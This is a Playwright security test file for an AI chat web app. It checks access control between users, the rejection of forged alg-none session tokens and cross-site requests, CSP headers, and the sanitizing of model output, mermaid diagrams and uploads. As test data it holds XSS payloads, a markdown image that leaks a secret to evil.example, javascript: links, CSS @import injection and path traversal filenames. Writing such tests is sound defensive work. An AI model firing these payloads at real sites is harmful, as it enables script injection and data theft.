/** The page under attack. */
import { randomUUID } from "node:crypto"
import { readFile } from "node:fs/promises"
import { createServer } from "node:http"
import { expect, MODEL, test } from "@/e2e/support/fixtures"
import { redCircle } from "@/e2e/support/pictures"

test("another user's data can't be read, changed, stopped or shared", async ({ chat, browser }) => {
  const { page, app } = chat
  const upload = await page.request.post(`${app.url}/api/images`, {
    multipart: { file: { name: "a.png", mimeType: "image/png", buffer: await redCircle() } },
  })
  const { images } = await upload.json()
  await chat.ask("[[words n=20000 rate=100]]")
  await expect(chat.answer()).toContainText("w5")
  const id = chat.conversationId()
  const share = await (await page.request.post(`${app.url}/api/conversations/${id}/shares`)).json()
  const [preset, prompt] = [randomUUID(), randomUUID()]
  await page.request.post(`${app.url}/api/presets`, { data: { id: preset, name: "Secret", settings: { topK: 1 } } })
  await page.request.post(`${app.url}/api/prompts`, { data: { id: prompt, command: "secret", text: "Secret" } })

  const stranger = await browser.newContext()
  const other = await stranger.newPage()
  await other.goto(app.url)
  const { request } = other
  const gone = async (status: Promise<{ status(): number }>) => expect((await status).status()).toBe(404)
  await gone(request.get(`${app.url}/api/conversations/${id}`))
  await gone(request.get(`${app.url}/api/conversations/${id}/messages`))
  await gone(request.patch(`${app.url}/api/conversations/${id}`, { data: { title: "mine" } }))
  await gone(request.patch(`${app.url}/api/conversations/${id}`, { data: { settings: { topK: 1 } } }))
  await gone(request.patch(`${app.url}/api/presets/${preset}`, { data: { name: "mine" } }))
  await gone(request.delete(`${app.url}/api/presets/${preset}`))
  await gone(request.patch(`${app.url}/api/prompts/${prompt}`, { data: { text: "mine" } }))
  await gone(request.delete(`${app.url}/api/prompts/${prompt}`))
  for (const list of ["presets", "prompts"])
    expect(await (await request.get(`${app.url}/api/${list}`)).json()).toEqual({ [list]: [] })
  await gone(request.delete(`${app.url}/api/conversations/${id}`))
  await gone(request.get(`${app.url}/api/chat/${id}/stream`))
  await gone(request.post(`${app.url}/api/chat/${id}/stop`))
  const answer = await chat.answer().getAttribute("data-message-id")
  await gone(request.get(`${app.url}/api/chat/${id}/stream?answers=${answer}:-1`))
  await gone(request.post(`${app.url}/api/chat/${id}/stop?message=${answer}`))
  await gone(request.patch(`${app.url}/api/conversations/${id}`, { data: { kept: answer } }))
  const compare = [1, 2].map(() => ({ model: MODEL, responseId: randomUUID() }))
  const asks = { id: randomUUID(), parts: [{ type: "text", text: "hi" }] }
  await gone(request.post(`${app.url}/api/chat`, { data: { id, message: asks, compare } }))
  await gone(
    request.post(`${app.url}/api/chat`, { data: { id, message: asks, responseId: randomUUID(), replaces: answer } }),
  )
  await gone(request.post(`${app.url}/api/conversations/${id}/shares`))
  await gone(request.delete(`${app.url}/api/shares/${share.share.id}`))
  await gone(request.get(`${app.url}${images[0].url}`))
  await gone(request.get(`${app.url}${images[0].url}?share=${share.share.path.split("/").at(-1)}`))
  await gone(
    request.post(`${app.url}/api/chat`, {
      data: { id, message: { id: randomUUID(), parts: [{ type: "text", text: "hi" }] } },
    }),
  )
  await gone(
    request.post(`${app.url}/api/chat`, {
      data: {
        id: randomUUID(),
        message: { id: randomUUID(), parts: [{ type: "file", url: images[0].url, mediaType: "image/png" }] },
      },
    }),
  )
  await gone(request.get(`${app.url}/c/${id}`))
  const folder = randomUUID()
  await page.request.post(`${app.url}/api/folders`, { data: { id: folder, name: "Mine" } })
  await gone(request.post(`${app.url}/api/folders`, { data: { id: folder, name: "Theirs" } }))
  await gone(request.patch(`${app.url}/api/folders/${folder}`, { data: { name: "Theirs" } }))
  await gone(request.delete(`${app.url}/api/folders/${folder}`))
  await gone(request.patch(`${app.url}/api/conversations`, { data: { ids: [id], deleted: true } }))
  await gone(request.patch(`${app.url}/api/conversations/${id}`, { data: { tags: { add: ["theirs"] } } }))
  await stranger.close()
  await expect(chat.answer()).toHaveAttribute("data-status", "streaming")
  await chat.stop.click()
  await chat.ended("stopped")
})

test("without a session the API says so, and a forged one is rejected", async ({ app, playwright }) => {
  const anonymous = await playwright.request.newContext()
  expect((await anonymous.get(`${app.url}/api/conversations`)).status()).toBe(401)
  const forged = await playwright.request.newContext({
    extraHTTPHeaders: { cookie: "next-auth.session-token=eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0." },
  })
  expect((await forged.get(`${app.url}/api/conversations`)).status()).toBe(401)
  await anonymous.dispose()
  await forged.dispose()
})

test("a cross-site change is rejected", async ({ chat }) => {
  const { page, app } = chat
  const attempt = (headers: Record<string, string>) =>
    page.request.post(`${app.url}/api/chat/${randomUUID()}/stop`, { headers })
  expect((await attempt({ origin: "https://evil.example" })).status()).toBe(403)
  expect((await attempt({ "sec-fetch-site": "cross-site" })).status()).toBe(403)
  expect((await attempt({ origin: app.url })).status()).toBe(404)
})

test("malformed bodies get a clear error", async ({ chat }) => {
  const { page, app } = chat
  const post = async (data: string) => {
    const response = await page.request.post(`${app.url}/api/chat`, {
      data,
      headers: { "content-type": "application/json" },
    })
    const { error } = await response.json()
    expect(error.message).toMatch(/^[A-Z].*\.$/)
    expect(JSON.stringify(error)).not.toMatch(/\bat \/|node_modules/)
    return response.status()
  }
  for (const body of ["", "null", "[]", "{", '{"id":7}', '{"id":"x","message":{}}', '{"__proto__":{}}', "\u0000"])
    expect(await post(body)).toBe(400)
  expect(await post(JSON.stringify({ id: "x".repeat(6_000_000) }))).toBe(413)
})

test("every page has a strict policy, and never violates it", async ({ page, app }) => {
  const violations: string[] = []
  page.on(
    "console",
    (message) => /content security policy|refused to/i.test(message.text()) && violations.push(message.text()),
  )
  const response = await page.goto(app.url)
  const policy = response?.headers()["content-security-policy"] ?? ""
  expect(policy).toMatch(/script-src 'self' 'nonce-[^']{20,}' 'strict-dynamic'/)
  expect(policy).not.toMatch(/script-src[^;]*unsafe/)
  expect(policy).toContain("connect-src 'self'")
  expect(response?.headers()["x-content-type-options"]).toBe("nosniff")
  const message = page.getByRole("textbox", { name: "Message", exact: true })
  // Once the page is interactive.
  await expect(message).toBeFocused()
  await message.fill("Write python code for primes, a table, a formula and a diagram")
  await page.keyboard.press("Enter")
  await expect(page.locator('article[data-role="assistant"]')).toHaveAttribute("data-status", "complete")
  await expect(page.locator("[data-part='diagram'] img")).toBeVisible()
  expect(violations).toEqual([])
})

test("static files are served with Brotli, immutable caching, and the right type", async ({ page, app }) => {
  await page.goto(app.url)
  const script = await page.locator("script[src*='/_next/static/']").first().getAttribute("src")
  const response = await fetch(new URL(script ?? "", app.url), { headers: { "accept-encoding": "br" } })
  expect(Object.fromEntries(response.headers)).toMatchObject({
    "content-encoding": "br",
    "cache-control": "public,max-age=31536000,immutable",
    "content-type": "text/javascript",
    "x-content-type-options": "nosniff",
  })
  expect((await response.text()).length).toBeGreaterThan(0)
})

test("model output is never run, loaded or followed automatically", async ({ chat }) => {
  const { page } = chat
  const outside: string[] = []
  page.on("request", (request) => {
    if (new URL(request.url()).hostname === "evil.example") outside.push(request.url())
  })
  const dialogs: string[] = []
  page.on("dialog", async (dialog) => {
    dialogs.push(dialog.message())
    await dialog.dismiss()
  })
  const attack = [
    "[[echo]]",
    "![leak](https://evil.example/?q=secret)",
    '<img src="https://evil.example/x.png" onerror="alert(1)">',
    "<script>alert(2)</script>",
    '<iframe src="https://evil.example/"></iframe>',
    '<a href="javascript:alert(3)">click</a> [link](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>)',
    '<svg onload="alert(6)"></svg><style>body{display:none}</style>',
    '<div id="conversation">not ours</div>',
    "[good](https://good.example/)",
  ].join("\n\n")
  const check = async () => {
    const answer = chat.answer()
    await expect(answer.getByRole("link", { name: "good" })).toHaveAttribute(
      "rel",
      /noopener.*noreferrer|noreferrer.*noopener/,
    )
    expect(
      await answer
        .locator(
          "script, iframe, style, [id='conversation'], [onerror], [onload], [href^='javascript:'], [href^='data:']",
        )
        .count(),
    ).toBe(0)
    expect(await answer.locator("img[src*='evil']").count()).toBe(0)
  }
  await chat.askAndWait(attack)
  await check()
  await page.reload()
  await check()
  expect(outside).toEqual([])
  expect(dialogs).toEqual([])
})

test("a hostile diagram runs, loads, links and changes nothing, and is rendered in isolation", async ({ chat }) => {
  const { page } = chat
  const visits: string[] = []
  const elsewhere = createServer(({ url }, response) => {
    visits.push(url ?? "")
    response.end()
  })
  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve))
  const address = elsewhere.address()
  const evil = `http://127.0.0.1:${typeof address === "object" && address?.port}`
  const dialogs: string[] = []
  page.on("dialog", async (dialog) => {
    dialogs.push(dialog.message())
    await dialog.dismiss()
  })
  const diagrams = [
    'flowchart LR\n  A["<img src=x onerror=alert(1)>"] --> B["<b>bold</b><script>alert(2)</script>"]\n  click A href "javascript:alert(3)"\n  click B call alert(4)',
    'flowchart LR\n  A@{ img: "EVIL/a.png", label: "picture", pos: "t", w: 60, h: 60 } --> B[b]\n  click B "EVIL/link" _self',
    "%%{init: {'securityLevel': 'loose', 'theme': 'base', 'themeCSS': '@import url(EVIL/t.css); * { background: url(EVIL/b.png) } body { display: none }', 'htmlLabels': true, 'fontFamily': 'x; } body { display: none } {'}}%%\nflowchart LR\n  A[\"<iframe src='EVIL/'></iframe>one\"] --> B[two]",
    "---\nconfig:\n  securityLevel: loose\n  themeCSS: \"* { fill: url(EVIL/c.svg) }\"\n---\nsequenceDiagram\n  participant A as <img src=x onerror=alert(5)>\n  A->>B: <a href='javascript:alert(6)'>click</a>\n  link A: Go @ javascript:alert(7)",
    "architecture-beta\n  group g(cloud)[<img src=x onerror=alert(8)>]\n  service s(database)[<script>alert(9)</script>] in g",
    'classDiagram\n  class A["<svg onload=alert(10)>"]\n  link A "EVIL/" "tip"\n  style A background:url(EVIL/d.png),fill:#fff',
  ]
  const answer = await chat.askAndWait(
    `[[echo]]\n\n${diagrams.map((text) => `\`\`\`mermaid\n${text.replaceAll("EVIL", evil)}\n\`\`\``).join("\n\n")}`,
  )
  // Each is rendered, or rejected with a note: none stays pending.
  const settled = answer.locator("[data-part='diagram'] img, .diagram-problem")
  await expect(settled).toHaveCount(diagrams.length, { timeout: 120_000 })
  expect(await answer.locator("[data-part='diagram'] img").count()).toBeGreaterThan(2)
  // On the page, a diagram is an image: none of it is in the document.
  expect(
    await page.locator("article svg[id], article foreignObject, article a[href*='127.0.0.1'], body > svg").count(),
  ).toBe(0)
  await expect(page.locator("body")).toBeVisible()
  for (const image of await answer.locator("[data-part='diagram'] img").all()) {
    const svg = await image.evaluate(async (element: HTMLImageElement) => {
      const canvas = document.createElement("canvas")
      canvas.getContext("2d")?.drawImage(element, 0, 0)
      return { tainted: canvas.toDataURL().length < 10, address: element.src }
    })
    expect(svg).toMatchObject({ tainted: false, address: expect.stringMatching(/^blob:/) })
  }
  // What can be saved as a file is also harmless.
  for (const diagram of await answer.locator("[data-part='diagram']").all()) {
    await diagram.getByRole("button", { name: "Download diagram" }).click()
    const [file] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("menuitem", { name: "Download as SVG" }).click(),
    ])
    const text = await readFile(await file.path(), "utf8")
    // Outside of its texts, where `<` is an entity.
    const tags = text.replace(/>[^<]*&lt;[^<]*</g, "><")
    expect(tags).not.toMatch(/<script|<iframe|<foreignObject|\son\w+=|href="(?!#)|url\((?!["']?#)|@import/i)
  }
  const frame = page.frames().find((each) => each.url().endsWith("/api/diagrams"))
  expect(await frame?.evaluate(() => [self.origin, document.cookie === ""]).catch(() => "no cookies")).toEqual(
    "no cookies",
  )
  expect(visits).toEqual([])
  expect(dialogs).toEqual([])
  elsewhere.close()
})

test("the diagram frame can run only its own scripts, and no other site can embed it", async ({ app }) => {
  const page = await fetch(`${app.url}/api/diagrams`)
  const policy = page.headers.get("content-security-policy") ?? ""
  expect(policy).toContain("sandbox allow-scripts;")
  expect(policy).toContain("default-src 'none'")
  expect(policy).toContain("frame-ancestors 'self'")
  expect(policy).not.toMatch(/allow-same-origin|script-src[^;]*unsafe|connect-src/)
  for (const name of [
    "..%2f..%2fpackage.json",
    "mermaid.js",
    "chunks/mermaid.esm.min/..%2f..%2fmermaid.js",
    "nothing.mjs",
  ])
    expect((await fetch(`${app.url}/api/diagrams/${name}`)).status).toBe(404)
  const script = await fetch(`${app.url}/api/diagrams/mermaid.esm.min.mjs`, { headers: { "accept-encoding": "br" } })
  expect(Object.fromEntries(script.headers)).toMatchObject({
    "content-type": "text/javascript",
    "content-encoding": "br",
    "access-control-allow-origin": "*",
    "x-content-type-options": "nosniff",
  })
})

test("an upload's type is detected from its bytes, whatever its name", async ({ chat }) => {
  const { page, app } = chat
  const upload = (name: string, mimeType: string, buffer: Buffer) =>
    page.request.post(`${app.url}/api/images`, { multipart: { file: { name, mimeType, buffer } } })
  // An SVG is rasterized: none of its source is served.
  const drawing = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>'
  const { images: drawn } = await (await upload("a.png", "image/png", Buffer.from(drawing))).json()
  const pixels = await page.request.get(`${app.url}${drawn[0].url}`)
  expect(pixels.headers()["content-type"]).toMatch(/^image\/(png|webp|jpeg)$/)
  expect((await pixels.body()).includes("alert")).toBe(false)
  const html = await upload("a.png", "image/png", Buffer.from(`<html>${drawing}</html>`))
  expect(html.status()).toBe(415)
  const { images } = await (await upload("../../etc/evil.html", "text/html", await redCircle())).json()
  const served = await page.request.get(`${app.url}${images[0].url}`)
  expect(served.headers()["content-type"]).toBe("image/png")
  expect(served.headers()["x-content-type-options"]).toBe("nosniff")
  expect(served.headers()["content-security-policy"]).toContain("sandbox")
  expect(images[0].name).toBe("evil.html")
})
